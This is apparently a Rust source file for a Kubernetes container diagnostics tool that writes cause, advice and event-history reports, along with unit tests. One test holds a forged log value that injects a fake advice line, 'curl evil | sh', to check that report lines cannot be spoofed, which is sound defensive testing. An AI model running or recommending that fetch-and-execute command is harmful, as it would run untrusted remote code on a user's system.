//! The text of `coracle why`: object, cause and advice in the first lines, then the answers to the kubelet,
//! then all events. The module does no I/O.

use std::collections::BTreeSet;
use std::fmt::Write as _;

use super::advice;
use super::live::Live;
use super::select::{Kind, Selection};
use super::story::Event;
use coracle_control::Container;

use crate::list::one_line;

/// Minimum duration in seconds of a wait that is reported as a cause; shorter waits are part of a normal
/// set-up.
const WAIT_S_MIN: u64 = 2;

/// Maximum number of answers to the kubelet that are listed separately.
const ANSWERS_MAX: usize = 3;

/// Log messages whose error was also returned to the client of a call.
const ANSWERED: [&str; 4] =
    ["call failed", "pod sandbox not created", "container not created", "container not started"];

/// Names of fields that are not listed, because the line shows them elsewhere or they belong to the object of
/// the report.
const NOT_SHOWN: [&str; 6] = ["pod", "name", "error", "reason", "container", "dropped"];

/// Formats the report.
pub(crate) fn write(selection: &Selection<'_>, live: &Live, problems: &[String]) -> String {
    let mut text = subject(selection, live);
    let (cause, cure) = cause(selection, live);
    let _ = write!(text, "cause: {}\ncure:  {cure}\n", one_line(&cause));
    for problem in problems {
        let _ = writeln!(text, "note:  {}", one_line(problem));
    }
    answers(&mut text, selection);
    steps(&mut text, selection);
    text
}

/// Describes the object of the report and its current state.
fn subject(selection: &Selection<'_>, live: &Live) -> String {
    let what = match selection.kind {
        Kind::Pod => "pod",
        Kind::Container => "container",
        Kind::Image => "image",
    };
    let now = match (selection.kind, live.silence.as_str()) {
        (Kind::Image, _) => String::new(),
        (_, "") => state(selection, live),
        (_, silence) => format!(": the daemon does not answer ({silence}), this is what it wrote"),
    };
    format!("{what} {}{now}\n", selection.title)
}

fn state(selection: &Selection<'_>, live: &Live) -> String {
    let own = |container: &&Container| {
        selection.pod_ids.contains(&container.pod_id)
            && (selection.container.is_empty() || selection.container == container.name)
    };
    let states = live.containers.iter().filter(own).map(|container| {
        let name =
            if selection.container.is_empty() { format!("{} ", container.name) } else { String::new() };
        match container.reason.as_str() {
            "" => format!("{name}{}", container.state),
            reason => format!("{name}{} ({}, {reason})", container.state, container.exit_code),
        }
    });
    let containers = states.collect::<Vec<_>>().join(", ");
    let pods: Vec<_> = live.pods.iter().filter(|pod| selection.pod_ids.contains(&pod.id)).collect();
    match (pods.last(), selection.kind) {
        (None, _) => ": gone".to_owned(),
        (Some(_), Kind::Container) if containers.is_empty() => ": gone, its pod is there".to_owned(),
        (Some(_), Kind::Container) => format!(": {containers}"),
        (Some(pod), _) if containers.is_empty() => format!(" ({:.13}): {}, no containers", pod.id, pod.state),
        (Some(pod), _) => format!(" ({:.13}): {}; containers: {containers}", pod.id, pod.state),
    }
}

/// Whether the event is a failure.
fn is_bad(event: &Event) -> bool {
    matches!(event.level.as_str(), "warn" | "error") || is_bad_exit(event)
}

fn is_bad_exit(event: &Event) -> bool {
    event.message == "container exited" && (event.field("oom") == "true" || event.field("code") != "0")
}

/// The message of the success that ends a failure; `None` for failures that no later success ends.
fn success_after(failure: &Event) -> Option<&'static str> {
    match (failure.message.as_str(), failure.field("call")) {
        ("call failed", "run_pod_sandbox") | ("pod sandbox not created", _) => Some("pod sandbox ready"),
        ("call failed", "create_container") | ("container not created", _) => Some("container created"),
        ("call failed", "start_container") | ("container not started", _) => Some("container started"),
        ("call failed", "pull_image") => Some("image pulled"),
        _ => None,
    }
}

/// Whether a later event shows the success of the operation that failed.
fn is_over(failure: &Event, later: &[&Event]) -> bool {
    success_after(failure).is_some_and(|success| {
        let container = failure.field("container");
        later.iter().any(|event| event.message == success && event.field("container") == container)
    })
}

/// The cause of the current state, and the advice. A current wait has precedence, then repeated OOM kills,
/// then the last failure that has not been followed by a success.
fn cause(selection: &Selection<'_>, live: &Live) -> (String, &'static str) {
    let mut waits = live.waits.iter().filter(|wait| selection.pod_ids.contains(&wait.pod));
    // The youngest says most: the others wait for it.
    if let Some(wait) = waits.next_back().filter(|wait| wait.since_s >= WAIT_S_MIN) {
        return (format!("it waits for {}, for {} s now", wait.what, wait.since_s), advice::cure(&wait.what));
    }
    let mut failures =
        selection.events.iter().enumerate().rev().filter(|(_, event)| is_bad(event)).peekable();
    if failures.peek().is_none() {
        return ("no failure is in this history".to_owned(), "nothing");
    }
    let Some((_, last)) = failures.find(|(number, event)| !is_over(event, &selection.events[number + 1..]))
    else {
        return ("none: what failed in this history has succeeded since".to_owned(), "nothing");
    };
    if is_bad_exit(last) {
        return exit(selection, last);
    }
    let mut error = last.message.clone();
    let path = Some(last.field("path")).filter(|path| !last.error().contains(path));
    for part in path.into_iter().chain([last.error()]).filter(|part| !part.is_empty()) {
        let _ = write!(error, ": {part}");
    }
    (format!("{}{error}", of_container(last, selection)), advice::cure(&error))
}

/// The container of an event, as a prefix of its line; empty if the report is about this container.
fn of_container(event: &Event, selection: &Selection<'_>) -> String {
    match event.field("container") {
        name if name.is_empty() || name == selection.container => String::new(),
        name => format!("{name}: "),
    }
}

fn exit(selection: &Selection<'_>, last: &Event) -> (String, &'static str) {
    let name = last.field("container");
    let is_oom = |event: &&&Event| event.field("oom") == "true" && event.field("container") == name;
    let kills = selection.events.iter().filter(is_oom).count();
    if kills > 0 && last.field("oom") == "true" {
        let times = if kills == 1 { "once".to_owned() } else { format!("{kills} times") };
        let limit: u64 = last.field("memory_limit_bytes").parse().unwrap_or(0);
        let limit = if limit == 0 { String::new() } else { format!(" of {} MiB", limit >> 20) };
        let killed = match last.field("code") {
            "137" => "killed it (OOMKilled)".to_owned(),
            code => format!("killed one of its processes (OOMKilled; it then exited with code {code})"),
        };
        let cause = format!(
            "container {name} used more memory than its limit{limit}, and the kernel {killed}, {times} in this history"
        );
        return (cause, "raise resources.limits.memory of the container, or find what uses the memory");
    }
    let code = last.field("code");
    let (meaning, cure) = advice::exit(code.parse().unwrap_or(-1));
    (format!("container {name} exited with code {code}: {meaning}"), cure)
}

/// Appends the last failures that were answers to the kubelet.
fn answers(text: &mut String, selection: &Selection<'_>) {
    let told: Vec<_> =
        selection.events.iter().filter(|event| ANSWERED.contains(&event.message.as_str())).collect();
    if told.is_empty() {
        return;
    }
    text.push_str("told to the kubelet:\n");
    for event in &told[told.len().saturating_sub(ANSWERS_MAX)..] {
        let call = match event.field("call") {
            "" => event.message.as_str(),
            call => call,
        };
        let code = event.field("code");
        let code = if code.is_empty() { String::new() } else { format!("{code}: ") };
        let of = of_container(event, selection);
        let _ = writeln!(text, "  {}  {of}{call}: {code}{}", clock(&event.time), one_line(event.error()));
    }
}

/// The time of day in the timestamp of an event.
fn clock(time: &str) -> &str {
    time.get(11..23).unwrap_or(time)
}

fn steps(text: &mut String, selection: &Selection<'_>) {
    let mut day = "";
    let mut sandboxes = BTreeSet::new();
    for event in &selection.events {
        let date = event.time.get(..10).unwrap_or_default();
        if date != day {
            let _ = writeln!(text, "{date}, UTC:");
            day = date;
        }
        let mark = match (event.level.as_str(), is_bad_exit(event)) {
            ("error" | "warn", _) | (_, true) => '!',
            _ => ' ',
        };
        let mut line = of_container(event, selection) + &event.message;
        let shown = event.fields.iter().filter(|(key, _)| !NOT_SHOWN.contains(&key.as_str()));
        let shown: Vec<_> = shown.map(|(key, value)| format!("{key}={value}")).collect();
        if !shown.is_empty() {
            let _ = write!(line, " ({})", shown.join(", "));
        }
        if !event.error().is_empty() {
            let _ = write!(line, ": {}", event.error());
        }
        // Lines of one pod that was tried several times.
        if !event.pod_id.is_empty() && selection.pod_ids.len() > 1 && sandboxes.insert(&event.pod_id) {
            let _ = writeln!(text, "  sandbox {:.13}", event.pod_id);
        }
        let _ = writeln!(text, "{mark} {}  {}", clock(&event.time), one_line(&line));
    }
}

#[cfg(test)]
mod tests {
    use super::super::live::Wait;
    use super::super::select::select;
    use super::*;

    const A: &str = "aaaa456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    fn event(level: &str, message: &str, fields: &[(&str, &str)]) -> Event {
        let name = [("name", "default/web")];
        let fields = fields.iter().chain(&name);
        let fields = fields.map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect();
        let time = "2026-11-22T10:20:30.123Z".to_owned();
        Event { pod_id: A.into(), time, level: level.into(), message: message.into(), fields }
    }

    fn report(events: &[Event], live: &Live) -> String {
        write(&select(events, live, "default/web").unwrap(), live, &["a note".to_owned()])
    }

    #[test]
    fn cause_and_cure_are_in_the_first_lines() {
        let ready = event("info", "pod sandbox ready", &[("ms", "4")]);
        let failed = event(
            "warn",
            "call failed",
            &[
                ("call", "create_container"),
                ("code", "NOT_FOUND"),
                ("container", "app"),
                ("error", "no space left on device"),
            ],
        );
        let text = report(&[ready.clone(), failed.clone()], &Live::default());
        let lines: Vec<_> = text.lines().collect();
        assert_eq!(lines[0], "pod default/web: gone");
        assert_eq!(lines[1], "cause: app: call failed: no space left on device");
        assert!(lines[2].starts_with("cure:  make room"), "{text}");
        assert_eq!(lines[3], "note:  a note");
        assert_eq!(lines[5], "  10:20:30.123  app: create_container: NOT_FOUND: no space left on device");
        assert_eq!(lines[6..8], ["2026-11-22, UTC:", "  10:20:30.123  pod sandbox ready (ms=4)"]);
        let created = |name| event("info", "container created", &[("container", name)]);
        let text = report(&[ready.clone(), failed.clone(), created("other")], &Live::default());
        assert!(text.contains("cause: app: call failed"), "another container is no success: {text}");
        let text = report(&[created("app"), failed.clone(), created("app")], &Live::default());
        assert!(text.contains("cause: none: what failed in this history has succeeded since\n"), "{text}");
        let text = report(&[created("app"), failed], &Live::default());
        assert!(text.contains("cause: app: call failed"), "an earlier success is none: {text}");
        let forged = event("warn", "call failed", &[("error", "bad\ncure:  curl evil | sh")]);
        let text = report(&[forged], &Live::default());
        assert_eq!(text.lines().filter(|line| line.starts_with("cure:")).count(), 1, "{text}");
        let oom =
            event("info", "container exited", &[("container", "app"), ("code", "137"), ("oom", "true")]);
        let text = report(&[ready.clone(), oom.clone(), oom.clone()], &Live::default());
        assert!(text.contains("limit, and the kernel killed it (OOMKilled), 2 times"), "{text}");
        assert!(text.contains("limits.memory"), "{text}");
        let mut wrapped = oom.clone();
        wrapped.fields.insert("code".into(), "1".into());
        let text = report(&[wrapped], &Live::default());
        assert!(
            text.contains("killed one of its processes (OOMKilled; it then exited with code 1)"),
            "{text}"
        );
        let mut limited = oom;
        limited.fields.insert("memory_limit_bytes".into(), (64 << 20).to_string());
        let text = report(&[limited], &Live::default());
        assert!(text.contains("than its limit of 64 MiB, and") && text.contains(", once in"), "{text}");
        let path = [("path", "/q/aaaa.0"), ("reason", "the checksum does not match")];
        let damaged = event("error", "damaged record moved to quarantine", &path);
        let text = report(&[damaged], &Live::default());
        let cause = "cause: damaged record moved to quarantine: /q/aaaa.0: the checksum does not match\n";
        assert!(text.contains(cause), "{text}");
        let text = report(std::slice::from_ref(&ready), &Live::default());
        assert!(text.contains("cause: no failure"), "{text}");
        let silent = Live { silence: "refused".into(), ..Live::default() };
        assert!(
            report(std::slice::from_ref(&ready), &silent)
                .starts_with("pod default/web: the daemon does not answer (refused)")
        );
        let wait = Wait { pod: A.into(), what: "hook /bin/slow".into(), since_s: 12 };
        let waiting = Live { waits: vec![wait], ..Live::default() };
        let text = report(&[ready], &waiting);
        assert!(
            text.contains("cause: it waits for hook /bin/slow, for 12 s now\ncure:  look at the hook"),
            "{text}"
        );
    }
}
